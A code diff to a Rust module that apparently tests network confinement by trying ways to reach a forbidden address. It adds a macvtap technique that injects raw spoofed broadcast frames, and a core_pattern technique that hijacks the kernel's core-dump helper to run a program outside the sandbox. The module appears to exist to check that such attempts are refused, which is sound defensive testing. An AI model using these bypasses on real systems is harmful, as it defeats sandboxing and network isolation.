@@ -4,14 +4,15 @@
 #![expect(unsafe_code, reason = "setns, and bpf(2) with raw structures")]
 
 use std::ffi::CString;
-use std::fs::File;
+use std::fs::{self, File};
 use std::os::fd::AsRawFd;
+use std::process::Command;
 
 use crate::Technique;
 use crate::aim::Aim;
 use crate::named;
-use crate::other::shell;
-use crate::rerouted;
+use crate::other::{STRANGER, shell};
+use crate::rerouted::{self, packet};
 use crate::switches::{both, bpf};
 use crate::sys::{self, Name, Refused};
 
@@ -23,6 +24,8 @@ pub(crate) const TECHNIQUES: &[Technique] = &[
     ("translated-address", translated),
     ("rewritten-at-the-device", rewritten_at_device),
     ("rewritten-by-a-cgroup-program", rewritten_by_program),
+    ("macvtap-device", macvtap),
+    ("core-dump-helper", core_dump_helper),
 ];
 
 /// Runs an attack in a network that a pair of devices joins with the host, which forwards.
@@ -124,15 +127,52 @@ fn rewritten_by_program(aim: &Aim) -> Result<(), Refused> {
     // `expected_attach_type`, the second half of the word after `prog_ifindex`.
     load[8] = both(0, INET4_CONNECT);
     let program = bpf(PROG_LOAD, &mut load)? as u32;
-    std::fs::create_dir_all(CGROUP).map_err(Refused::io("mkdir"))?;
+    fs::create_dir_all(CGROUP).map_err(Refused::io("mkdir"))?;
     let folder = File::open(CGROUP).map_err(Refused::io("open"))?;
     let mut attach = [0; 16];
     attach[0] = both(folder.as_raw_fd() as u32, program);
     attach[1] = both(INET4_CONNECT, 0);
     bpf(PROG_ATTACH, &mut attach)?;
-    std::fs::write(format!("{CGROUP}/cgroup.procs"), "0").map_err(Refused::io("write"))?;
+    fs::write(format!("{CGROUP}/cgroup.procs"), "0").map_err(Refused::io("write"))?;
     let outcome = to_granted(aim);
-    std::fs::write("/sys/fs/cgroup/cgroup.procs", "0").map_err(Refused::io("write"))?;
-    std::fs::remove_dir(CGROUP).map_err(Refused::io("rmdir"))?;
+    fs::write("/sys/fs/cgroup/cgroup.procs", "0").map_err(Refused::io("write"))?;
+    fs::remove_dir(CGROUP).map_err(Refused::io("rmdir"))?;
     outcome
+}
+
+/// A device beside another one, whose far side is a file: what is written there leaves by the other one.
+fn macvtap(aim: &Aim) -> Result<(), Refused> {
+    /// `struct virtio_net_hdr`: nothing is left to the device.
+    const OFFLOADED: [u8; 10] = [0; 10];
+    let name = std::process::id();
+    shell(&format!(
+        "ip=/usr/sbin/ip; $ip link add a{name} type veth peer name b{name}; $ip link set a{name} up
+         $ip link set b{name} up; $ip link add link a{name} name m{name} type macvtap mode bridge
+         $ip link set m{name} up"
+    ))?;
+    let index = fs::read_to_string(format!("/sys/class/net/m{name}/ifindex")).map_err(Refused::io("open"))?;
+    let protocol = if aim.forbidden.is_ipv4() { libc::ETH_P_IP } else { libc::ETH_P_IPV6 } as u16;
+    let mut frame = OFFLOADED.to_vec();
+    // To everybody, from an address that is nobody's.
+    frame.extend([0xff; 6]);
+    frame.extend([2, 0, 0, 0, 0, 9]);
+    frame.extend(protocol.to_be_bytes());
+    frame.extend(packet(aim));
+    let written = fs::OpenOptions::new().write(true).open(format!("/dev/tap{}", index.trim()));
+    let written = written
+        .map_err(Refused::io("open"))
+        .and_then(|mut file| std::io::Write::write_all(&mut file, &frame).map_err(Refused::io("write")));
+    shell(&format!("/usr/sbin/ip link del m{name}; /usr/sbin/ip link del a{name}"))?;
+    written
+}
+
+/// The kernel starts a program for a process that dies, and that program is nobody's child.
+fn core_dump_helper(aim: &Aim) -> Result<(), Refused> {
+    const PATTERN: &str = "/proc/sys/kernel/core_pattern";
+    let before = fs::read(PATTERN).map_err(Refused::io("read"))?;
+    fs::write(PATTERN, format!("|{STRANGER} connect {}", aim.words().join(" "))).map_err(Refused::io("write"))?;
+    // It has started when the process is gone.
+    let died = Command::new("/bin/sh").args(["-c", "kill -ABRT $$"]).status().map_err(Refused::io("execve"));
+    fs::write(PATTERN, before).map_err(Refused::io("write"))?;
+    died.map(drop)
 }
